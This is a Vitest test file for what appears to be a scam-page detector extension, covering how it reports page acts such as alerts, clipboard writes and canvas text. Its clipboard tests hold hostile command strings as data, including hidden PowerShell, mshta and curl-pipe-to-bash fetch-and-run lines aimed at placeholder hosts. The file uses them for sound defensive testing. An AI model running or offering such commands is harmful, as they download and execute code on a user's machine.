// @vitest-environment jsdom
import { describe, expect, it, vi } from 'vitest';
import { asContentMessage } from '../../../../src/messages/validate';
import { documentState } from '../../../../src/content/document-state';
import { acts, claim, eachWithItsOwnGates, gates, listeners, open, real, SCAM, sent } from './gate-page';

eachWithItsOwnGates();
let from = '';
Object.defineProperty(Document.prototype, 'referrer', { configurable: true, get: () => from });

describe('what the background is told of an act', () => {
  it('is how often it came and when it came last', async () => {
    open('Hello');
    claim('alert');
    await vi.advanceTimersByTimeAsync(5_000);
    claim('alert', { count: 7 });
    expect(acts().map(({ count }) => count)).toEqual([1, 7]);
    expect((acts()[1]?.at ?? 0) - (acts()[0]?.at ?? 0)).toBeGreaterThanOrEqual(5_000);
  });

  it('is whether the person had asked for it, each act by itself', () => {
    open('Hello');
    claim('sound');
    claim('vibrate', { asked: true });
    claim('fullscreen', { asked: true });
    const unasked = Object.fromEntries(acts().map(({ act, unasked: one }) => [act, one]));
    expect(unasked).toMatchObject({ sound: true, vibrate: false });
    claim('confirm', { asked: true });
    expect(acts().at(-1)).toMatchObject({ act: 'confirm', unasked: false });
  });

  it('is what stands on the page by then, though no look has come since', () => {
    open('Hello');
    document.body.textContent = SCAM;
    claim('alert');
    expect(gates()[0]?.text).toContain(SCAM);
  });

  it('is followed by the question for a detector, though the page lets nobody read its words', async () => {
    open('Hello');
    documentState().onChange = null;
    const walk = vi.spyOn(Document.prototype, 'createTreeWalker').mockImplementation(() => {
      throw new TypeError('not today');
    });
    claim('alert');
    await vi.advanceTimersByTimeAsync(6_000);
    walk.mockRestore();
    expect(gates().length).toBe(1);
  });

  it('is asked for again with the words that were read first: a page that jams has no others', async () => {
    open('');
    documentState().onChange = null;
    document.body.textContent = SCAM;
    claim('alert');
    await vi.advanceTimersByTimeAsync(6_000);
    expect(gates().map(({ text }) => text?.trim())).toEqual([SCAM, SCAM]);
  });

  it('has a handler that the markup gets once the gate is open', () => {
    open('');
    claim('alert');
    documentState().listenAnew?.();
    document.body.setAttribute('onbeforeunload', 'return 1');
    documentState().listenAnew?.();
    document.body.removeAttribute('onbeforeunload');
    expect(acts().map(({ act }) => act)).toEqual(['alert', 'beforeunload']);
  });

  it('is taken by the worker, however much the page says', () => {
    open(`${SCAM} `.repeat(500));
    document.title = 'x'.repeat(5_000);
    claim('alert', { detail: SCAM.repeat(100) });
    expect(sent.length).toBeGreaterThan(1);
    for (const message of sent) expect(asContentMessage(message)).not.toBeNull();
    document.title = '';
  });

  it('is what a copy command takes, where the page does not say it', () => {
    open('');
    const field = document.createElement('textarea');
    field.value = 'powershell -w hidden';
    document.body.append(field);
    field.focus();
    claim('clipboard');
    expect(acts()).toMatchObject([{ act: 'clipboard', detail: 'powershell -w hidden' }]);
    claim('clipboard', { detail: 'cmd /c what it says itself' });
    expect(acts().at(-1)?.detail).toBe('cmd /c what it says itself');
    claim('vibrate');
    expect(acts().at(-1)?.detail).toBe('');
  });

  it.each([
    ['powershell -w hidden -c "x"'],
    ['PowerShell.exe -ep bypass'],
    ['C:\\WINDOWS\\system32\\cmd.exe /c start'],
    ['mshta https://one.example/x # I am not a robot'],
    ['echo "aGk=" | base64 -d | bash'],
    ['/bin/bash -c "$(curl -fsSL https://one.example)"'],
  ])('is a command that was copied: %s', (detail) => {
    open('');
    claim('clipboard', { detail });
    expect(acts()).toMatchObject([{ act: 'clipboard', detail }]);
  });

  it.each([
    ['correct horse battery staple'],
    ['DE89 3704 0044 0532 0130 00'],
    ['https://files.example/s/secret'],
    ['Dear Anna, the curly one is mine.'],
  ])('is nothing else that was copied: %s', (detail) => {
    open('');
    claim('clipboard', { detail });
    expect(acts()).toMatchObject([{ act: 'clipboard', detail: '', count: 1 }]);
    expect(documentState().actTexts).toEqual([]);
  });

  it('is not what somebody has typed, though it is a command', () => {
    open('');
    const [own, other] = [document.createElement('textarea'), document.createElement('textarea')];
    own.value = 'curl -H "my secret" https://one.example';
    other.value = 'curl https://two.example';
    document.body.append(own, other);
    real('input', { target: own });
    own.focus();
    claim('clipboard');
    other.focus();
    real('input', { target: other, isTrusted: false });
    claim('clipboard');
    expect(acts().map(({ detail }) => detail)).toEqual(['', 'curl https://two.example']);
  });

  it('is never a password', () => {
    open('');
    const field = document.createElement('input');
    field.type = 'password';
    field.value = 'cmd secret';
    document.body.append(field);
    field.focus();
    claim('clipboard');
    expect(JSON.stringify(sent)).not.toContain('secret');
    expect(acts()).toMatchObject([{ act: 'clipboard', detail: '' }]);
  });

  it('is the selection where no field has the focus', () => {
    open('mshta https://one.example/x');
    getSelection()?.selectAllChildren(document.body);
    claim('clipboard');
    expect(acts()[0]?.detail).toBe('mshta https://one.example/x');
  });

  it('bears a name of its document, another one for each', () => {
    const names = [1, 2].map(() => {
      sent.length = 0;
      open('Hello');
      claim('alert');
      return sent[0]?.doc;
    });
    expect(names[0]).toMatch(/^\d+$/);
    expect(names[1]).not.toBe(names[0]);
  });

  it('has where the page came from, for the journal', () => {
    from = 'https://advert.example/';
    open('Hello');
    claim('alert');
    from = '';
    expect(gates()[0]).toMatchObject({ referrer: 'https://advert.example/' });
  });

  it('asks for the detector once, however much a page paints on a canvas', () => {
    open('');
    for (const more of ['one', 'two', 'three']) claim('canvas-text', { detail: `${SCAM} ${more}` });
    expect(gates()).toHaveLength(1);
    expect(acts().at(-1)?.detail).toBe(`${SCAM} three`);
  });

  it('begins with what the person had asked for before, as such', () => {
    open('Hello');
    claim('vibrate', { asked: true });
    claim('alert', { asked: true });
    expect(acts().map(({ act, unasked }) => [act, unasked])).toEqual([['alert', false], ['vibrate', false]]);
    expect(listeners, 'orders come by message from now on').toHaveLength(1);
  }); // prettier-ignore

  it('is little in a flood', () => {
    open('Hello');
    for (let count = 1; count <= 500; count += 1) claim('alert', { count });
    expect(acts().length).toBeLessThan(10);
  });
});
